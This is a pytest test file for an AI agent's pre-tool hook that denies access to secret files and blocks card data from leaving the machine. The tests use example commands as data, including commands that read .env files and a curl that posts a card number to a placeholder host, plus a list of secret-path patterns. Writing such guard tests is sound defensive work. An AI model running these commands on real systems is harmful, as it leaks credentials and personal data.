"""`chatx hook pre-tool`: secret paths and personal data leaving the machine are denied, with
the reason; everything else is left to the user's permissions; a bad event blocks."""

from __future__ import annotations

import json
from typing import Any

import pytest
from tests.clirun import chatx

from chatx.agent.hooks import Denial, EventError, edited_paths, pre_tool, secret_path


def event(tool: str, **arguments: Any) -> dict[str, Any]:
    return {"hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": arguments}


def no_findings(text: str) -> list[str]:
    return []


def card_found(text: str) -> list[str]:
    return ["card", "card"] if "4111" in text else []


@pytest.mark.parametrize(
    ("path", "secret"),
    [
        ("/w/.env", True),
        ("/w/.env.production", True),
        ("config/secrets/db.json", True),
        ("/home/me/.ssh/config", True),
        ("keys/server.pem", True),
        ("/home/me/.ssh/id_rsa.pub", True),
        ("'.env'", True),
        ("src/environment.py", False),
        ("docs/secrets-management.md", False),
        ("README.md", False),
    ],
)
def test_secret_paths(path: str, secret: bool) -> None:
    assert secret_path(path) is secret


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("Read", {"file_path": "/w/.env.local"}),
        ("Edit", {"file_path": "/w/secrets/token.txt", "old_string": "a", "new_string": "b"}),
        ("Write", {"file_path": "/w/deploy/key.pem", "content": "x"}),
        ("Grep", {"pattern": "KEY", "path": "/w/.env"}),
        ("Bash", {"command": "cat .env | grep KEY"}),
        ("Bash", {"command": "source ./.env.local&&run"}),
        ("Bash", {"command": "tool --config=secrets/prod.yaml"}),
    ],
)
def test_secret_files_are_denied_whatever_the_tool(tool: str, arguments: dict[str, Any]) -> None:
    denial = pre_tool(event(tool, **arguments), no_findings)
    assert denial is not None and "secret file" in denial.reason


def test_personal_data_leaving_the_machine_is_denied_with_its_kinds() -> None:
    fetch = event("WebFetch", url="https://pay.example/api", prompt="charge 4111 1111 1111 1111")
    denial = pre_tool(fetch, card_found)
    assert isinstance(denial, Denial) and "(card, found by the Policy Shield)" in denial.reason
    assert "4111" not in denial.reason
    assert denial.output()["hookSpecificOutput"]["permissionDecision"] == "deny"
    curl = event("Bash", command="curl -d 'card=4111 1111 1111 1111' https://x.example")
    assert pre_tool(curl, card_found) is not None


def test_the_rest_is_left_to_the_users_permissions() -> None:
    assert pre_tool(event("WebFetch", url="https://docs.python.org/3/"), card_found) is None
    assert pre_tool(event("Read", file_path="/w/src/app.py"), card_found) is None
    # a local command is not scanned: only what uses the network leaves the machine
    assert (
        pre_tool(event("Bash", command="echo 4111 1111 1111 1111 > notes.txt"), card_found) is None
    )


def test_an_event_without_a_tool_is_an_error() -> None:
    with pytest.raises(EventError):
        pre_tool({"hook_event_name": "PreToolUse"}, no_findings)


def test_the_cli_hook_denies_blocks_and_passes(tmp_path: Any) -> None:
    card = event("WebFetch", url="https://pay.example", prompt="use 4111 1111 1111 1111")
    denied = chatx("hook", "pre-tool", "--workspace", str(tmp_path), stdin=json.dumps(card))
    assert denied.returncode == 0
    decision = json.loads(denied.stdout)["hookSpecificOutput"]
    assert (
        decision["permissionDecision"] == "deny" and "card" in decision["permissionDecisionReason"]
    )
    passed = chatx(
        "hook",
        "pre-tool",
        stdin=json.dumps({**event("Read", file_path="a.py"), "cwd": str(tmp_path)}),
    )
    assert (passed.returncode, passed.stdout) == (0, "")
    broken = chatx("hook", "pre-tool", stdin="{not json")
    assert broken.returncode == 2 and "cannot read the event" in broken.stderr
    assert not (tmp_path / ".claude-context").exists()


def test_a_card_number_in_an_encoded_url_is_found() -> None:
    url = "https://pay.example/charge?card=4111%201111%201111%201111"
    denial = pre_tool(event("WebFetch", url=url, prompt="go"), card_found)
    assert denial is not None and "card" in denial.reason


def test_post_tool_names_the_edited_files_but_never_a_secret() -> None:
    written = {"tool_name": "Write", "tool_input": {"file_path": "/w/docs/a.md", "content": "x"}}
    assert edited_paths(written) == ["/w/docs/a.md"]
    notebook = {"tool_name": "NotebookEdit", "tool_input": {"notebook_path": "/w/n.ipynb"}}
    assert edited_paths(notebook) == ["/w/n.ipynb"]
    assert edited_paths({"tool_name": "Edit", "tool_input": {"file_path": "/w/.env"}}) == []
    assert edited_paths({"tool_name": "Read", "tool_input": {"file_path": "/w/a.md"}}) == []
    with pytest.raises(EventError):
        edited_paths({"tool_input": {}})
